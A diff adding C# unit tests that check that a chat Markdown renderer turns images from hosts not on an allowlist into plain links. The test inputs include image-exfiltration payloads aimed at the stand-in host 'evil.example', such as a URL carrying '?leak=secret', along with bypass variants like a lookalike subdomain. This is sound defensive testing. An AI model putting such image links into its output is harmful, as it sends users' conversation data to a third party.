@@ -82,4 +82,62 @@ public sealed class MarkdownRendererTests
         Assert.Equal(("https://example.com", "_blank"), (link.GetAttribute("href"), link.GetAttribute("target")));
         Assert.Contains("noopener", link.GetAttribute("rel"));
     }
+
+    private static readonly IReadOnlySet<string> NoImageHosts = new HashSet<string>();
+    private static readonly IReadOnlySet<string> ImagesExampleCom = new HashSet<string> { "images.example.com" };
+
+    private static AngleSharp.Html.Dom.IHtmlDocument Render(string markdown, IReadOnlySet<string> imageHosts) =>
+        new HtmlParser().ParseDocument($"<body>{MarkdownRenderer.ToHtml(markdown, imageHosts)}</body>");
+
+    // Every way Markdown (or HTML in it) can ask for an image from elsewhere: a tracking pixel, or a URL that carries
+    // the conversation to a third party as soon as the reply is shown.
+    [Theory]
+    [InlineData("![chart](https://evil.example/p.png?leak=secret)")]
+    [InlineData("![](http://evil.example/p.png)")]
+    [InlineData("![x](//evil.example/p.png)")]
+    [InlineData("![x](/p.png)")]
+    [InlineData("![x][ref]\n\n[ref]: https://evil.example/p.png")]
+    [InlineData("<img src=\"https://evil.example/p.png\">")]
+    [InlineData("[![x](https://evil.example/p.png)](https://example.com)")]
+    [InlineData("![x](https://images.example.com.evil.example/p.png)")]
+    public void NoImageLoadsFromAHostNotAllowed(string markdown)
+    {
+        Assert.Empty(Render(markdown, ImagesExampleCom).QuerySelectorAll("img, [src], [srcset]"));
+    }
+
+    [Fact]
+    public void AnImageBecomesALinkToItsUrlWithItsAltTextAsTheText()
+    {
+        var link = Render("See ![the chart](https://evil.example/p.png?leak=secret \"Chart\").", NoImageHosts).QuerySelector("a")!;
+
+        Assert.Equal(("https://evil.example/p.png?leak=secret", "the chart"), (link.GetAttribute("href"), link.TextContent));
+        Assert.Equal("_blank", link.GetAttribute("target"));
+    }
+
+    [Fact]
+    public void AnImageWithoutAltTextBecomesALinkShowingItsUrl()
+    {
+        var link = Render("![](https://evil.example/p.png)", NoImageHosts).QuerySelector("a")!;
+
+        Assert.Equal(("https://evil.example/p.png", "https://evil.example/p.png"), (link.GetAttribute("href"), link.TextContent));
+    }
+
+    [Fact]
+    public void AnImageInsideALinkLeavesTheLinkWithTheAltText()
+    {
+        var document = Render("[![badge](https://evil.example/p.png)](https://example.com)", NoImageHosts);
+
+        var link = Assert.Single(document.QuerySelectorAll("a"));
+        Assert.Equal(("https://example.com", "badge"), (link.GetAttribute("href"), link.TextContent));
+    }
+
+    [Fact]
+    public void AnHttpsImageFromAnAllowedHostStaysAnImage()
+    {
+        var document = Render("![diagram](https://Images.Example.com/d.png) ![plain](http://images.example.com/d.png)", ImagesExampleCom);
+
+        var image = Assert.Single(document.QuerySelectorAll("img"));
+        Assert.Equal(("https://Images.Example.com/d.png", "diagram"), (image.GetAttribute("src"), image.GetAttribute("alt")));
+        Assert.Equal("http://images.example.com/d.png", document.QuerySelector("a")!.GetAttribute("href")); // not https: a link
+    }
 }
